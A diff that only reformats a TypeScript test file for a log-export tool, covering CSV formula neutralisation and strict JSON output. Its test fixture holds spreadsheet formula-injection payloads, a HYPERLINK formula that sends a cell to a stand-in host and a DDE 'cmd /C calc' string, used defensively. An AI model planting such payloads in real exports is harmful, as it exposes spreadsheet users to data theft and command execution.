@@ -18,8 +18,12 @@ const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
 function capture(f: () => unknown): { out: string; err: string; result: unknown } {
   let out = '';
   let err = '';
-  const o = vi.spyOn(process.stdout, 'write').mockImplementation((c: string | Uint8Array) => ((out += String(c)), true));
-  const e = vi.spyOn(process.stderr, 'write').mockImplementation((c: string | Uint8Array) => ((err += String(c)), true));
+  const o = vi
+    .spyOn(process.stdout, 'write')
+    .mockImplementation((c: string | Uint8Array) => ((out += String(c)), true));
+  const e = vi
+    .spyOn(process.stderr, 'write')
+    .mockImplementation((c: string | Uint8Array) => ((err += String(c)), true));
   try {
     const result = f();
     return { result, out, err };
@@ -57,11 +61,23 @@ describe('CLI filter errors quoting evidence', () => {
 
 /** A sink that keeps what is written. */
 function memorySink(): Sink & { text: string } {
-  const s = { text: '', closed: false, write(x: string) { s.text += x; }, flush() {}, close() {} };
+  const s = {
+    text: '',
+    closed: false,
+    write(x: string) {
+      s.text += x;
+    },
+    flush() {},
+    close() {},
+  };
   return s as unknown as Sink & { text: string };
 }
 
-function exported(records: Record<string, unknown>[], format: 'csv' | 'json' | 'jsonl', opts: { fields?: string[]; csvRaw?: boolean } = {}): string {
+function exported(
+  records: Record<string, unknown>[],
+  format: 'csv' | 'json' | 'jsonl',
+  opts: { fields?: string[]; csvRaw?: boolean } = {},
+): string {
   const db = caseFileWith(records);
   const sink = memorySink();
   const f = compileFilter('', { now: Date.now() });
@@ -71,12 +87,20 @@ function exported(records: Record<string, unknown>[], format: 'csv' | 'json' | '
 
 describe('CSV for spreadsheets', () => {
   it('neutralises cells that start with = + - @ tab or CR (OWASP), and nothing else', () => {
-    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseCsvCell(s)).toBe(`'${s}`);
-    for (const s of ['', 'a=1', ' =1', 'arn:aws:iam::1:user/x', "'quoted"]) expect(neutraliseCsvCell(s)).toBe(s);
+    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
+      expect(neutraliseCsvCell(s)).toBe(`'${s}`);
+    for (const s of ['', 'a=1', ' =1', 'arn:aws:iam::1:user/x', "'quoted"])
+      expect(neutraliseCsvCell(s)).toBe(s);
     expect(neutraliseCsvCell(null)).toBe('');
   });
 
-  const evil = [ctEvent({ eventName: '=HYPERLINK("http://x.example/?"&A1,"open")', userAgent: '@SUM(1+1)*cmd|\' /C calc\'!A0', sourceIPAddress: '-2+3' })];
+  const evil = [
+    ctEvent({
+      eventName: '=HYPERLINK("http://x.example/?"&A1,"open")',
+      userAgent: "@SUM(1+1)*cmd|' /C calc'!A0",
+      sourceIPAddress: '-2+3',
+    }),
+  ];
 
   it('export --format csv (console columns and --fields) prefixes formula cells with a quote by default', () => {
     const csv = exported(evil, 'csv');
@@ -84,7 +108,9 @@ describe('CSV for spreadsheets', () => {
     expect(csv).toContain("'-2+3");
     expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
     const fields = exported(evil, 'csv', { fields: ['name', 'ua', 'ip'] });
-    expect(fields.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3`);
+    expect(fields.split('\r\n')[1]).toBe(
+      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3`,
+    );
   });
 
   it('--csv-raw keeps the cells exactly', () => {
@@ -94,7 +120,9 @@ describe('CSV for spreadsheets', () => {
 });
 
 describe('JSON for strict parsers', () => {
-  const loneRaw = ['{"a":"\\ud800","b":"x\\\\ud800","c":"\\ud83d\\ude00","d":"\\udc00\\ud800z","e":"\ud800"}'];
+  const loneRaw = [
+    '{"a":"\\ud800","b":"x\\\\ud800","c":"\\ud83d\\ude00","d":"\\udc00\\ud800z","e":"\ud800"}',
+  ];
 
   it('lone surrogates, escaped or raw, become the text \\udXXX; pairs and literal backslashes are kept', () => {
     const out = wellFormedJsonText(loneRaw[0]!);
@@ -104,7 +132,10 @@ describe('JSON for strict parsers', () => {
   });
 
   it('export --format jsonl / json: every line decodes as strict UTF-8 and parses, also in jq', () => {
-    const rec = ctEvent({ userAgent: 'lone \ud800 high', requestParameters: { k: 'low \udc00', tag: 'ad\u{E0061}min' } });
+    const rec = ctEvent({
+      userAgent: 'lone \ud800 high',
+      requestParameters: { k: 'low \udc00', tag: 'ad\u{E0061}min' },
+    });
     for (const format of ['jsonl', 'json'] as const) {
       const text = exported([rec, ctEvent()], format);
       const bytes = Buffer.from(text, 'utf8');
@@ -113,7 +144,10 @@ describe('JSON for strict parsers', () => {
       expect(wellFormedJsonText(text)).toBe(text); // nothing left to rewrite
       const lines = format === 'jsonl' ? text.trim().split('\n') : [text];
       const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
-      const first = format === 'jsonl' ? parsed[0]! : (parsed[0] as { Records: Record<string, unknown>[] }).Records[0]!;
+      const first =
+        format === 'jsonl'
+          ? parsed[0]!
+          : (parsed[0] as { Records: Record<string, unknown>[] }).Records[0]!;
       expect(first.userAgent).toBe('lone \\ud800 high');
       expect((first.requestParameters as Record<string, string>).tag).toBe('ad\u{E0061}min');
       const jq = spawnSync('jq', ['-c', '.'], { input: bytes });
